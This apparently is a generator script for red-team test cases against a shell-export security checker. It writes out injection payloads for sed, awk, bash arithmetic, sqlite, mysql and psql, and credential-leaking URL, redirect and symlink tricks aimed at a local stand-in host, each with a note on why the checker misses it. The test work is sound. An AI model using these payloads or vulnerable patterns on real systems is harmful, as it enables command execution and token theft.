#!/usr/bin/env python3
"""Writes blind34r19/attacks/NNN-name.yaml + .json and attacks/then/*.yaml (written for this round,
from the docs only; format of blind34r13's generator)."""
import base64, io, json, os, stat, tarfile, zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(HERE, "..", "attacks")
SEC = "secrets:\n  API_TOKEN: {env: CI_API_TOKEN}\n"
ARITH = "x[$(echo HARBOR-PWNED-$((6*7)) >&2)]"
AWKSYS = 'system("echo HARBOR-PWNED-" 6*7)'
ATT = []
THEN = {}


def A(name, cls, y, args, why, **extra):
    ATT.append((name, cls, y.strip() + "\n", args, why, extra))


def T(name, y):
    THEN[name] = y.strip() + "\n"


def tgz(members):
    """members: list of (name, content or ('symlink', target))"""
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w:gz") as t:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            if isinstance(data, tuple):
                ti.type = tarfile.SYMTYPE
                ti.linkname = data[1]
                t.addfile(ti)
            else:
                b = data.encode()
                ti.size = len(b)
                t.addfile(ti, io.BytesIO(b))
    return base64.b64encode(bio.getvalue()).decode()


def zipb(members):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w") as z:
        for name, data in members:
            if isinstance(data, tuple):
                zi = zipfile.ZipInfo(name)
                zi.create_system = 3
                zi.external_attr = (stat.S_IFLNK | 0o777) << 16
                z.writestr(zi, data[1])
            else:
                z.writestr(name, data)
    return base64.b64encode(bio.getvalue()).decode()


# ======================================================================== digit-guard-as-statement
A("guard-list-sed", "digit-guard-as-statement", r'''
name: changelog_head
description: Show the first lines of the changelog ("all" for the whole file).
args:
  lines: {type: string, minLength: 1, maxLength: 80, default: "20", description: "how many lines (a number), or all"}
timeout: 30
steps:
  - name: show
    run: |
      if [[ $ARG_lines == all ]]; then cat CHANGELOG.md; exit 0; fi
      n=$ARG_lines
      [[ $n =~ ^[0-9]+$ ]] && (( n > 0 ))
      sed -n "1,${n}p" CHANGELOG.md
''', {"lines": "1e echo HARBOR-PWNED-$((6*7))"},
  "The documented digit guard `[[ $n =~ ^[0-9]+$ ]] && (( n > 3 ))`, written as a statement in front of the use, as if -e stopped the script when it fails. Under bash -e a failing && list does not exit unless its last command failed: for a non-number the regex fails, the list is false, and the script goes on; sed's program gets the caller's text (e command).")

A("guard-list-awk", "digit-guard-as-statement", r'''
name: recent_errors
description: Print the first N ERROR lines of the application log ("all" for every one).
args:
  max: {type: string, maxLength: 80, default: "50", description: "a number, or all"}
timeout: 30
steps:
  - name: errors
    run: |
      max=$ARG_max
      if [[ $max == all ]]; then max=1000000; fi
      [[ $max =~ ^[0-9]+$ ]] && (( max <= 1000000 ))
      awk "/ERROR/ && ++c <= $max" logs/app.log
''', {"max": "1 || " + AWKSYS},
  "Same guard statement before an awk program: a number is inert in awk's code (rule 5), but the guard never stopped the script, so awk's program holds the caller's system() call.")

A("guard-list-arith", "digit-guard-as-statement", r'''
name: log_window
description: Show the log lines from an offset counted back from the end of the application log.
args:
  back: {type: string, maxLength: 80, default: "10", description: "how many lines back from the end (a number)"}
timeout: 30
steps:
  - name: window
    run: |
      back=$ARG_back
      [[ $back =~ ^[0-9]+$ ]] && (( back >= 0 ))
      total=$(wc -l < logs/app.log)
      start=$(( total > back ? total - back + 1 : 1 ))
      tail -n "+$start" logs/app.log
''', {"back": ARITH},
  "The guard statement, then `a > b ? a - b : 1` with a wc -l count, the shape the docs show not negative; `back` is evaluated as arithmetic, recursively, so its subscript's $(...) runs.")

A("guard-list-sqlite-edit", "digit-guard-as-statement", r'''
name: open_orders
description: List the open orders of the project's SQLite database, a page at a time.
args:
  limit: {type: string, maxLength: 120, default: "20", description: "how many orders (a number)"}
timeout: 30
steps:
  - name: query
    run: |
      limit=$ARG_limit
      [[ $limit =~ ^[0-9]+$ ]] && (( limit > 0 && limit <= 500 ))
      sqlite3 -readonly -header data/app.db "select id, item, status from orders where status = 'open' order by id limit $limit"
''', {"limit": "1; select edit('', 'echo HARBOR-PWNED-$((6*7)) >&2; true')"},
  "The guarded number goes into literal SQL of the author's own database (not one a step wrote, so -safe is not needed per round sixteen); the guard statement did not stop the script, and the sqlite3 shell's edit() runs its second argument as a command.")

# ======================================================================== count-with-names
A("grep-c-names-read", "count-with-names", r'''
name: bundle_error_counts
description: Count the ERROR lines of each file in an uploaded bundle of logs (.tar.gz).
args:
  bundle: {type: string, contentEncoding: base64, contentMediaType: application/gzip, max_bytes: 1048576}
required: [bundle]
timeout: 60
steps:
  - name: count
    run: |
      dir="$HARBOR_RUN_DIR/bundle"
      mkdir -p "$dir"
      tar -xzf "$ARG_bundle" -C "$dir"
      while IFS=: read -r f n; do
        if (( n > 0 )); then printf '%s: %d error line(s)\n' "${f##*/}" "$n"; fi
      done < <(grep -c -e ERROR -- "$dir"/*)
''', {"bundle": "@TGZ:names-read"},
  "grep -c prints counts (a number per rule 5, 'whatever its words'), read from < <(...); but with several files it prints FILE:COUNT, and IFS=: gives n everything after the first colon of a caller-named file ('a:1?x[$(...)]' gives n='1?x[$(...)]:1'), evaluated in (( )).")

A("grep-c-names-arith", "count-with-names", r'''
name: bundle_has_errors
description: Say whether the logs of an uploaded bundle (.tar.gz) hold ERROR lines.
args:
  bundle: {type: string, contentEncoding: base64, contentMediaType: application/gzip, max_bytes: 1048576}
required: [bundle]
timeout: 60
steps:
  - name: check
    run: |
      dir="$HARBOR_RUN_DIR/logs"
      mkdir -p "$dir"
      tar -xzf "$ARG_bundle" -C "$dir"
      cd "$dir"
      errors=$(grep -c -e ERROR -- * || true)
      if (( errors > 0 )); then echo "the bundle has error lines"; else echo "no error lines"; fi
''', {"bundle": "@TGZ:names-arith"},
  "`errors` is a grep -c count, so `(( errors > 0 ))` looks like numbers only; with two files grep prints NAME:COUNT lines, and two caller names, '(1?x[$(...)]' and ')+0?0', make the two lines one valid expression whose subscript runs.")

A("grep-c-names-awk", "count-with-names", r'''
name: bundle_error_rate
description: The share of ERROR lines in the logs of an uploaded bundle (.tar.gz).
args:
  bundle: {type: string, contentEncoding: base64, contentMediaType: application/gzip, max_bytes: 1048576}
required: [bundle]
timeout: 60
steps:
  - name: rate
    run: |
      dir="$HARBOR_RUN_DIR/rate"
      mkdir -p "$dir"
      tar -xzf "$ARG_bundle" -C "$dir"
      cd "$dir"
      errors=$(grep -c -e ERROR -- *.log || true)
      total=$(cat -- *.log | wc -l)
      awk "BEGIN { printf \"%.1f%% error lines\\n\", 100 * $errors / ($total + 1) }"
''', {"bundle": "@TGZ:names-awk"},
  "awk computes in BEGIN from two counts (grep -c, wc -l), numbers inert in its code per rule 5; grep -c over two caller-named files prints 0#.log:2 and 1;system(...)}#.log:1, lines that close BEGIN's block around a system() call, the rest commented out.")

A("git-grep-count-names", "count-with-names", r'''
name: todo_count
description: Count the TODO/FIXME lines under a folder of the project and warn when there are too many.
args:
  path: {type: string, within: ".", default: ".", maxLength: 200}
timeout: 30
steps:
  - name: count
    run: |
      n=$(grep -r -c -e TODO -e FIXME -- "$ARG_path" | awk -F: '{ s += $NF } END { print s + 0 }')
      echo "$n TODO/FIXME lines"
      if (( n > 100 )); then echo "too many" >&2; fi
''', {"path": "src"},
  "CONTROL-LIKE: the sum is computed by awk from the author's files; kept as a twin that should be inert (not counted).", skip=True)

# ======================================================================== url-one-assignment
A("curl-base-no-slash", "url-one-assignment", r'''
name: api_get
description: GET a path of the internal API with the CI token, e.g. /v1/items?limit=5.
args:
  path: {type: string, maxLength: 300, description: "API path, starting with /"}
required: [path]
''' + SEC + r'''
timeout: 30
steps:
  - name: get
    run: |
      base="http://127.0.0.1:18766"
      curl -fsS --max-time 5 -H "Authorization: Bearer $API_TOKEN" "$base$ARG_path"
''', {"path": "@127.0.0.1:18765/v1/items"},
  "The URL's one assignment leads it with the author's scheme and host, but no '/' follows the host; a path starting with '@' turns the author's host into userinfo and the caller's host receives the bearer token.")

A("wget-url-var", "url-one-assignment", r'''
name: fetch_export
description: Download an export file of the internal API with the CI token (no redirects followed).
args:
  path: {type: string, maxLength: 300, description: "export path, e.g. /exports/daily.json"}
required: [path]
''' + SEC + r'''
timeout: 30
steps:
  - name: fetch
    run: |
      url="http://127.0.0.1:18766$ARG_path"
      wget -q -O "$HARBOR_RUN_DIR/export.json" --max-redirect=0 --tries=1 --timeout=5 \
        --header "Authorization: Bearer $API_TOKEN" "$url"
      wc -c < "$HARBOR_RUN_DIR/export.json"
''', {"path": "@127.0.0.1:18765/exports/daily.json"},
  "`url` is assigned once, scheme and host of the author's (round eighteen's `url=\"$API/v1/$ARG_id\"` shape, with --max-redirect=0 as round eighteen asks); the caller's text directly after the host makes it userinfo.")

A("curl-env-literal-base", "url-one-assignment", r'''
name: api_status
description: Query a status path of the internal API with the CI credentials.
args:
  path: {type: string, maxLength: 300, description: "status path, e.g. /status/db"}
required: [path]
''' + SEC + r'''
timeout: 30
steps:
  - name: status
    env: {API_URL: "http://127.0.0.1:18766"}
    run: |
      curl -fsS --max-time 5 -u "ci:$API_TOKEN" "$API_URL$ARG_path"
''', {"path": "@127.0.0.1:18765/status/db"},
  "The base is the step's literal env: (the author's text, with its scheme); curl -u is a credential place; the caller's path follows the host without a '/', and curl sends Basic ci:token to the caller's host.")

A("curl-oauth2-port", "url-one-assignment", r'''
name: search_api
description: Search the internal API, e.g. /v1/search?q=login.
args:
  query_path: {type: string, maxLength: 300, description: "path and query, starting with /"}
required: [query_path]
''' + SEC + r'''
timeout: 30
steps:
  - name: search
    run: |
      api="http://127.0.0.1"
      curl -sS --max-time 5 --oauth2-bearer "$API_TOKEN" "$api$ARG_query_path"
''', {"query_path": ":18765/v1/search?q=login"},
  "A one-assignment base with the author's scheme and host, no port and no slash; the caller's ':PORT/...' chooses the port (round fourteen refuses a caller port only when it is written as one).")

A("git-extraheader-port", "url-one-assignment", r'''
name: mirror_heads
description: List the branches of a repository on the internal git server.
args:
  repo: {type: string, maxLength: 200, description: "repository path, e.g. /team/app.git"}
required: [repo]
''' + SEC + r'''
timeout: 30
steps:
  - name: heads
    env: {GIT_TERMINAL_PROMPT: "0"}
    run: |
      server="http://127.0.0.1"
      git -c http.extraHeader="Authorization: Bearer $API_TOKEN" ls-remote --heads "$server$ARG_repo" || echo "cannot list $ARG_repo"
''', {"repo": ":18765/team/app.git"},
  "git gets the token as an Authorization extra header (a credential place like curl -H); the repository URL's one assignment is the author's scheme and host, and the caller's ':18765/...' picks the port it is sent to.")

A("wget-port-var", "url-one-assignment", r'''
name: download_artifact
description: Download a build artifact from the artifact server with the CI token.
args:
  artifact: {type: string, maxLength: 200, description: "artifact path, e.g. /builds/42/app.tar.gz"}
required: [artifact]
''' + SEC + r'''
timeout: 30
steps:
  - name: download
    run: |
      url="http://127.0.0.1$ARG_artifact"
      wget -q -O "$HARBOR_RUN_DIR/artifact" --max-redirect=0 --tries=1 --timeout=5 \
        --header "Authorization: Bearer $API_TOKEN" "$url" || echo "download failed"
''', {"artifact": ":8080/builds/42/app.tar.gz"},
  "url's one assignment has the author's scheme and host; the caller's ':8080/...' chooses the port, and wget sends the --header token there.")

# ======================================================================== redirect-followers
A("curl-L-cookie-option", "redirect-followers", r'''
name: get_report
description: Download a named report from the reports service (follows the service's redirects to its storage).
args:
  name: {type: string, maxLength: 200, description: "report name, e.g. daily-2024-01-15.csv"}
required: [name]
''' + SEC + r'''
timeout: 30
steps:
  - name: get
    run: |
      curl -fsS -L --max-time 10 -b "session=$API_TOKEN" -o "$HARBOR_RUN_DIR/report" \
        "http://127.0.0.1:18766/reports/$ARG_name"
      wc -c < "$HARBOR_RUN_DIR/report"
''', {"name": "daily.csv?to=http://127.0.0.1:18765/steal"},
  "Round eighteen lets curl -L carry a secret only in -u or an Authorization:/Cookie: header, which curl keeps to the first host. A cookie given with -b NAME=VALUE is sent on every request of the transfer, redirects to other hosts included; the caller's path reaches the API's redirect.")

A("curl-L-netrc-default", "redirect-followers", r'''
name: get_dataset
description: Download a dataset file from the data service, following its redirects; credentials from a netrc file.
args:
  dataset: {type: string, maxLength: 200, description: "dataset path, e.g. sales/2024.csv"}
required: [dataset]
''' + SEC + r'''
timeout: 30
steps:
  - name: get
    run: |
      rc="$HARBOR_RUN_DIR/netrc"
      printf 'default login ci password %s\n' "$API_TOKEN" > "$rc"
      curl -fsS -L --max-time 10 --netrc-file "$rc" -o "$HARBOR_RUN_DIR/data" \
        "http://127.0.0.1:18766/data/$ARG_dataset"
      wc -c < "$HARBOR_RUN_DIR/data"
''', {"dataset": "sales.csv?to=http://127.0.0.1:18765/steal"},
  "The secret is written only to a run-directory file, read by curl as a credential file (netrc) for a literal host; with -L, curl looks the redirect target up in the same netrc, whose default entry matches any host.")

A("inhouse-urllib-redirect", "redirect-followers", r'''
name: fetch_report_inhouse
description: Fetch a report with the project's own fetch_report.py (reads the token from REPORT_TOKEN).
args:
  report: {type: string, maxLength: 200, description: "report path, e.g. weekly/2024-03.json"}
required: [report]
secrets:
  API_TOKEN: {env: CI_API_TOKEN, programs: [./scripts/fetch_report.py]}
programs:
  ./scripts/fetch_report.py:
    options_with_value: [--out, --timeout]
    runs_operands: false
    output_options: [--out]
    stdin: data
timeout: 30
steps:
  - name: fetch
    run: |
      REPORT_TOKEN="$API_TOKEN" ./scripts/fetch_report.py --timeout 10 --out "$HARBOR_RUN_DIR/report.json" -- "$ARG_report" \
        || echo "no such report"
''', {"report": "weekly.json?to=http://127.0.0.1:18765/steal"},
  "The in-house program is named in the secret's programs: (never prints it) and described by a grammar whose operand is data, so the round-eighteen gate passes; it uses Python's urllib, which keeps a request's Authorization header across a redirect to another host.")

# ======================================================================== credential-stores
A("gh-auth-token-npmrc", "credential-stores", r'''
name: setup_npm_registry
description: Point npm at the organisation's GitHub Packages registry, with the CI token gh uses.
secrets:
  GH_PAT: {env: CI_GH_PAT}
timeout: 30
steps:
  - name: npmrc
    run: |
      tok=$(GH_TOKEN="$GH_PAT" gh auth token)
      printf '@acme:registry=https://npm.pkg.github.com\n//npm.pkg.github.com/:_authToken=%s\n' "$tok" > .npmrc
      echo "npm registry configured for @acme"
''', {},
  "GH_TOKEN is gh's credential place; `gh auth token` prints the token it uses, which the follower does not tie to the secret (a program's output), and the script writes it into the project's .npmrc. The shipped search_text then prints it from an export that has no secret to scrub.",
  then=[{"export": "search_text", "args": {"pattern": "_authToken", "path": "."}}])

A("kubectl-default-kubeconfig", "credential-stores", r'''
name: kube_login
description: Store the CI service account's token as the kubectl user for the production cluster.
secrets:
  KUBE_TOKEN: {env: CI_KUBE_TOKEN}
timeout: 30
steps:
  - name: login
    run: |
      kubectl config set-credentials ci --token="$KUBE_TOKEN" >/dev/null
      kubectl config set-cluster prod --server=https://k8s.internal.example:6443 >/dev/null
      kubectl config set-context ci-prod --cluster=prod --user=ci >/dev/null
      kubectl config use-context ci-prod
''', {},
  "kubectl config set-credentials keeps the token in the default kubeconfig (~/.kube/config): round eighteen refuses it under --kubeconfig FILE or KUBECONFIG outside the run directory, and no flag names it here. A later, secret-free export prints the current context with --flatten.",
  then=[{"export": "kube_context", "args": {}}])

A("git-bare-mirror-config", "credential-stores", r'''
name: prepare_mirror
description: Prepare a bare mirror of the app repository under mirrors/, pointing at the internal git server.
''' + SEC + r'''
timeout: 30
steps:
  - name: init
    run: |
      mkdir -p mirrors
      git init -q --bare mirrors/app.git
      git -C mirrors/app.git remote add origin "https://ci:$API_TOKEN@git.internal.example/app.git"
      echo "mirror ready in mirrors/app.git"
''', {},
  "git takes the token in a URL (a credential place) and keeps it in the bare repository's top-level config file, in the working folder; the shipped search_text (which skips only .git folders) prints it unscrubbed.",
  then=[{"export": "search_text", "args": {"pattern": "url =", "path": "mirrors"}}])

# ======================================================================== gh-grammar
GHSEC = "secrets:\n  GHE_TOKEN: {env: CI_GHE_TOKEN, programs: [gh]}\n"
A("gh-pr-view-repo-host", "gh-grammar", r'''
name: ghe_pr
description: Show a pull request of a repository on the company's GitHub Enterprise.
args:
  pr: {type: integer, minimum: 1, maximum: 1000000}
  repo: {type: string, pattern: "^[A-Za-z0-9_.-]+(/[A-Za-z0-9_.-]+){1,2}$", description: "OWNER/REPO (or HOST/OWNER/REPO)"}
required: [pr, repo]
''' + GHSEC + r'''
pass_env: [SSL_CERT_FILE]
timeout: 30
steps:
  - name: view
    env: {GH_HOST: ghe.example.com, GH_PROMPT_DISABLED: "1"}
    run: |
      GH_ENTERPRISE_TOKEN="$GHE_TOKEN" gh pr view "$ARG_pr" --repo "$ARG_repo"
''', {"pr": 7, "repo": "127.0.0.1/o/r"},
  "gh pr view with a number is round eighteen's grammar; --repo takes [HOST/]OWNER/REPO, a word with no ':' (so no URL to the 'scheme' rule), and its host part decides where gh sends GH_ENTERPRISE_TOKEN.")

A("gh-release-list-repo-host", "gh-grammar", r'''
name: ghe_releases
description: List the latest releases of a repository on the company's GitHub Enterprise.
args:
  repo: {type: string, pattern: "^[A-Za-z0-9_.-]+(/[A-Za-z0-9_.-]+){1,2}$"}
  limit: {type: integer, minimum: 1, maximum: 50, default: 10}
required: [repo]
''' + GHSEC + r'''
pass_env: [SSL_CERT_FILE]
timeout: 30
steps:
  - name: releases
    env: {GH_HOST: ghe.example.com, GH_PROMPT_DISABLED: "1"}
    run: |
      GH_ENTERPRISE_TOKEN="$GHE_TOKEN" gh release list --repo "$ARG_repo" --limit "$ARG_limit"
''', {"repo": "127.0.0.1/o/r", "limit": 5},
  "gh release list with a number (--limit), accepted by the new grammar; the repository word's host part sends the enterprise token to the caller's host.")

A("gh-issue-view-repo-host", "gh-grammar", r'''
name: ghe_issue
description: Show an issue of a repository on the company's GitHub Enterprise.
args:
  issue: {type: integer, minimum: 1, maximum: 1000000}
  repo: {type: string, pattern: "^[A-Za-z0-9_.-]+(/[A-Za-z0-9_.-]+){1,2}$"}
required: [issue, repo]
''' + GHSEC + r'''
pass_env: [SSL_CERT_FILE]
timeout: 30
steps:
  - name: view
    env: {GH_HOST: ghe.example.com, GH_PROMPT_DISABLED: "1"}
    run: |
      GH_ENTERPRISE_TOKEN="$GHE_TOKEN" gh issue view "$ARG_issue" -R "$ARG_repo" || true
''', {"issue": 3, "repo": "127.0.0.1/o/r"},
  "Same with gh issue view and the short -R.")

A("gh-jq-env", "gh-grammar", r'''
name: ghe_pr_titles
description: List open pull requests of the main repository, shaped by a jq expression (gh --jq).
args:
  shape: {type: string, maxLength: 200, default: ".[].title", description: "a jq expression over [{number, title}]"}
''' + GHSEC + r'''
pass_env: [SSL_CERT_FILE]
timeout: 30
steps:
  - name: list
    env: {GH_HOST: "127.0.0.1:18443", GH_PROMPT_DISABLED: "1"}
    run: |
      GH_ENTERPRISE_TOKEN="$GHE_TOKEN" gh pr list --repo 127.0.0.1:18443/acme/app --json number,title --jq "$ARG_shape"
''', {"shape": "env.GH_ENTERPRISE_TOKEN | explode | reverse | implode"},
  "The caller's word is the value of gh's --jq (a list 'with a word' of round eighteen); gh's jq has env, so the expression prints the token gh was given, reversed past the scrubber.")

# ======================================================================== db-client-numbers
A("mysql-e-number", "db-client-numbers", r'''
name: mysql_orders
description: The latest orders from the app database (MariaDB), a number of rows at a time.
args:
  rows: {type: string, maxLength: 120, default: "10", description: "how many rows (a number)"}
secrets:
  DB_PASSWORD: {env: CI_DB_PASSWORD}
timeout: 30
steps:
  - name: query
    run: |
      rows=$ARG_rows
      [[ $rows =~ ^[0-9]+$ ]] && (( rows > 0 && rows <= 1000 ))
      MYSQL_PWD="$DB_PASSWORD" mysql -h 127.0.0.1 -P 13306 -u app app \
        -e "select id, item, status from orders order by id desc limit $rows"
''', {"rows": "1 \\! echo HARBOR-PWNED-$((6*7))"},
  "mysql -e with a number is round eighteen's grammar, MYSQL_PWD its credential place; the number's guard is a statement that -e does not enforce, and mysql runs a client command (\\!) found anywhere in the line.")

A("psql-heredoc-number", "db-client-numbers", r'''
name: pg_orders
description: The open orders from the app database (PostgreSQL), a number of rows at a time.
args:
  rows: {type: string, maxLength: 120, default: "10"}
secrets:
  DB_PASSWORD: {env: CI_DB_PASSWORD}
timeout: 30
steps:
  - name: query
    run: |
      rows=$ARG_rows
      [[ $rows =~ ^[0-9]+$ ]] && (( rows > 0 ))
      PGPASSWORD="$DB_PASSWORD" psql -h 127.0.0.1 -p 15432 -U app -d app -v ON_ERROR_STOP=1 <<SQL
      select id, item from orders where status = 'open' order by id limit $rows;
      SQL
''', {"rows": "1 \\! echo HARBOR-PWNED-$((6*7))"},
  "A psql here-document program without a backslash command in the author's text (round eighteen); the only expansion is a 'number' whose guard did not stop the script, and psql obeys a backslash command in the middle of a line.")

A("psql-conninfo-number", "db-client-numbers", r'''
name: pg_ping
description: Check that the app database answers, with a connection timeout in seconds.
args:
  timeout_s: {type: string, maxLength: 120, default: "5"}
secrets:
  DB_PASSWORD: {env: CI_DB_PASSWORD}
timeout: 30
steps:
  - name: ping
    run: |
      t=$ARG_timeout_s
      [[ $t =~ ^[0-9]+$ ]] && (( t > 0 && t <= 60 ))
      PGPASSWORD="$DB_PASSWORD" psql "host=127.0.0.1 port=15432 dbname=app user=app connect_timeout=$t" -At -c 'select 1' \
        || echo "database did not answer"
''', {"timeout_s": "5 host=127.0.0.1 port=18767"},
  "The docs hold that a number makes no program connect elsewhere; the 'number' in the connection string, behind a guard that did not stop the script, adds host= and port= keywords, and libpq sends PGPASSWORD to the caller's server.")

# ======================================================================== absolute-path-into-workdir
A("pwd-env-report", "absolute-path-into-workdir", r'''
name: set_report_name
description: Set the application name used in reports, then run the project report.
args:
  name: {type: string, maxLength: 80, description: "display name, e.g. Demo Shop"}
required: [name]
timeout: 30
steps:
  - name: configure
    run: |
      printf 'APP_NAME=%s\n' "$ARG_name" > "$PWD/.env"
  - name: report
    run: ./scripts/report.sh
''', {"name": "demo$(echo HARBOR-PWNED-$((6*7)) >&2)"},
  "Rule 7 marks the working folder caller-written after a redirection of caller data 'to a path that is not absolute or in $HARBOR_RUN_DIR'; \"$PWD/.env\" is absolute and is the working folder. The project's report.sh sources .env.")

A("toplevel-local-mk", "absolute-path-into-workdir", r'''
name: set_report_target
description: Choose the target the project's `make report` describes, then run it.
args:
  target: {type: string, maxLength: 120, description: "target name"}
required: [target]
timeout: 30
steps:
  - name: configure
    run: |
      root=$(git rev-parse --show-toplevel)
      printf 'TARGET := %s\n' "$ARG_target" > "$root/local.mk"
  - name: report
    run: make -s report
''', {"target": "web $(shell echo HARBOR-PWNED-$$((6*7)) >&2)"},
  "The redirection's target starts with what git prints of the repository (its top level: an absolute path, the working folder); make includes local.mk, whose := runs $(shell ...).")

A("pwd-env-source", "absolute-path-into-workdir", r'''
name: greet_with_defaults
description: Save the greeting to use by default, then print it with the project's settings.
args:
  greeting: {type: string, maxLength: 120}
required: [greeting]
timeout: 30
steps:
  - name: save
    run: |
      printf 'GREETING=%s\n' "$ARG_greeting" > "$(pwd)/.env"
      set -a
      . ./.env
      set +a
      printf '%s from %s\n' "$GREETING" "$(basename "$PWD")"
''', {"greeting": "hello;echo HARBOR-PWNED-$((6*7))"},
  "The caller's text goes to \"$(pwd)/.env\" (absolute), then the script sources ./.env: a sourced file the script wrote, but under another spelling of its path.")

A("pwd-local-mk-then", "absolute-path-into-workdir", r'''
name: set_build_target
description: Record the target the project's build describes (local.mk, not committed).
args:
  target: {type: string, maxLength: 120}
required: [target]
timeout: 30
steps:
  - name: save
    run: |
      printf 'TARGET := %s\n' "$ARG_target" > "$PWD/local.mk"
      echo "target set"
''', {"target": "api $(shell echo HARBOR-PWNED-$$((6*7)) >&2)"},
  "Across exports: this one writes caller text to \"$PWD/local.mk\" (absolute, so the folder is not marked written); another export of the same server runs `make -s report` with no caller data at all (the gate of exports served together needs the writer to be seen as writing the folder).",
  then=[{"export": "build_report", "args": {}}])

# ======================================================================== cross-export-clean-output
A("xexp-jq-sed", "cross-export-clean-output", r'''
name: set_display_name
description: Set the service's display name in config/app.json.
args:
  name: {type: string, maxLength: 80}
required: [name]
timeout: 30
steps:
  - name: set
    run: |
      jq --arg n "$ARG_name" '.service.display_name = $n' config/app.json > "$HARBOR_RUN_DIR/app.json"
      cp -- "$HARBOR_RUN_DIR/app.json" config/app.json
''', {"name": "x/;e echo HARBOR-PWNED-$((6*7));s/x/"},
  "Export two (then/render_banner) reads `jq -r .service.display_name config/app.json`, a printer of a file no step of *its* export writes (rule 2), and puts it in sed's program; this export wrote the caller's text there.",
  then=[{"export": "render_banner", "args": {}}])

A("xexp-changelog-awk", "cross-export-clean-output", r'''
name: add_changelog_entry
description: Add an entry at the top of CHANGELOG.md.
args:
  version: {type: string, pattern: "^[0-9]+\\.[0-9]+\\.[0-9]+$"}
  note: {type: string, maxLength: 200}
required: [version, note]
timeout: 30
steps:
  - name: add
    run: |
      { printf '## %s\n- %s\n' "$ARG_version" "$ARG_note"; cat CHANGELOG.md; } > "$HARBOR_RUN_DIR/CHANGELOG.md"
      cp -- "$HARBOR_RUN_DIR/CHANGELOG.md" CHANGELOG.md
''', {"version": "1.4.3", "note": 'x" ; ' + AWKSYS + ' ; print "'},
  "then/latest_change reads the newest entry with grep -m1 (a file no step of its export writes) and prints it with an awk BEGIN program (round fifteen: awk BEGIN from the author's values).",
  then=[{"export": "latest_change", "args": {}}])

A("xexp-git-commit-sed", "cross-export-clean-output", r'''
name: record_deploy_note
description: Record a deploy note as an empty commit on the current branch.
args:
  note: {type: string, maxLength: 200}
required: [note]
timeout: 30
steps:
  - name: commit
    env: {GIT_AUTHOR_NAME: harbor, GIT_AUTHOR_EMAIL: harbor@example.com, GIT_COMMITTER_NAME: harbor, GIT_COMMITTER_EMAIL: harbor@example.com}
    run: |
      git commit -q --allow-empty -m "deploy: $ARG_note"
      git log -1 --format=%h
''', {"note": "x/;e echo HARBOR-PWNED-$((6*7));#"},
  "then/deploy_banner takes `git log -1 --format=%s` (what git prints of the repository: the author's text when no step of the export commits) into sed's program; this export committed the caller's note.",
  then=[{"export": "deploy_banner", "args": {}}])

A("xexp-compgen-envs", "cross-export-clean-output", r'''
name: add_environment
description: Add an environment name to config/environments.txt.
args:
  name: {type: string, maxLength: 80}
required: [name]
timeout: 30
steps:
  - name: add
    run: |
      printf '%s\n' "$ARG_name" >> config/environments.txt
      echo "added"
''', {"name": "$(echo HARBOR-PWNED-$((6*7)) >&2)"},
  "then/pick_environment completes a prefix against `compgen -W \"$(cat config/environments.txt)\"` (cat of a file no step of its export writes: the author's text); compgen -W expands each word, command substitution included.",
  then=[{"export": "pick_environment", "args": {"prefix": "s"}}])

A("xexp-mapfile-awk", "cross-export-clean-output", r'''
name: add_region
description: Add a region to the regions list in config/app.json.
args:
  region: {type: string, maxLength: 80}
required: [region]
timeout: 30
steps:
  - name: add
    run: |
      jq --arg r "$ARG_region" '.regions = ((.regions // []) + [$r])' config/app.json > "$HARBOR_RUN_DIR/app.json"
      cp -- "$HARBOR_RUN_DIR/app.json" config/app.json
''', {"region": 'eu", "on"; ' + AWKSYS + '; printf "%s %s\\n", "x'},
  "then/region_table reads the regions with mapfile from `jq -r '.regions[]?' config/app.json` (an array read from what a program prints of a file no step of its export writes) and formats each in an awk BEGIN program.",
  then=[{"export": "region_table", "args": {}}])

# ======================================================================== upload-symlink
A("tar-symlink-overwrite-script", "upload-symlink", r'''
name: repack_bundle
description: Add a MANIFEST with a note to an uploaded bundle (.tar.gz), repack it, then run the project report.
args:
  bundle: {type: string, contentEncoding: base64, contentMediaType: application/gzip, max_bytes: 1048576}
  note: {type: string, maxLength: 200}
required: [bundle, note]
timeout: 60
steps:
  - name: repack
    run: |
      dir="$HARBOR_RUN_DIR/bundle"
      mkdir -p "$dir"
      tar -xzf "$ARG_bundle" -C "$dir"
      printf '%s\n' "$ARG_note" > "$dir/MANIFEST"
      tar -czf "$HARBOR_RUN_DIR/bundle.tgz" -C "$dir" .
  - name: report
    run: ./scripts/report.sh
''', {"bundle": "@TGZ:symlink-report", "note": "echo HARBOR-PWNED-$((6*7))"},
  "Every write goes to the run directory, so the working folder counts as unwritten and ./scripts/report.sh may run; but the bundle's MANIFEST is a symlink to /proc/self/cwd/scripts/report.sh, and the redirection writes the caller's note into the project's script.")

A("zip-symlink-makefile", "upload-symlink", r'''
name: import_docs
description: Unpack an uploaded docs archive (.zip), stamp it with the importer, and rebuild the report.
args:
  archive: {type: string, contentEncoding: base64, contentMediaType: application/zip, max_bytes: 1048576}
  importer: {type: string, maxLength: 120}
required: [archive, importer]
timeout: 60
steps:
  - name: unpack
    run: |
      dir="$HARBOR_RUN_DIR/docs"
      mkdir -p "$dir"
      unzip -q -o "$ARG_archive" -d "$dir"
      printf 'imported-by: %s\n' "$ARG_importer" > "$dir/STAMP"
  - name: report
    run: make -s report
''', {"archive": "@ZIP:symlink-makefile", "importer": "x $(shell echo HARBOR-PWNED-$$((6*7)) >&2)"},
  "unzip restores a symlink STAMP -> /proc/self/cwd/local.mk; the stamp written 'into the run directory' lands in the project's local.mk, which the Makefile includes; make expands a rule's prerequisites as it reads them, so $(shell ...) runs.")

A("tar-symlink-git-config", "upload-symlink", r'''
name: annotate_bundle
description: Write release notes into an uploaded bundle (.tar.gz) and repack it.
args:
  bundle: {type: string, contentEncoding: base64, contentMediaType: application/gzip, max_bytes: 1048576}
  notes: {type: string, multiline: true, maxLength: 4000}
required: [bundle, notes]
timeout: 60
steps:
  - name: annotate
    run: |
      dir="$HARBOR_RUN_DIR/b"
      mkdir -p "$dir"
      tar -xzf "$ARG_bundle" -C "$dir"
      printf '%s\n' "$ARG_notes" > "$dir/NOTES"
      tar -czf "$HARBOR_RUN_DIR/out.tgz" -C "$dir" .
      echo "annotated"
''', {"bundle": "@TGZ:symlink-gitconfig", "notes": "[core]\n\tfsmonitor = \"echo HARBOR-PWNED-$((6*7)) >&2; false\"\n"},
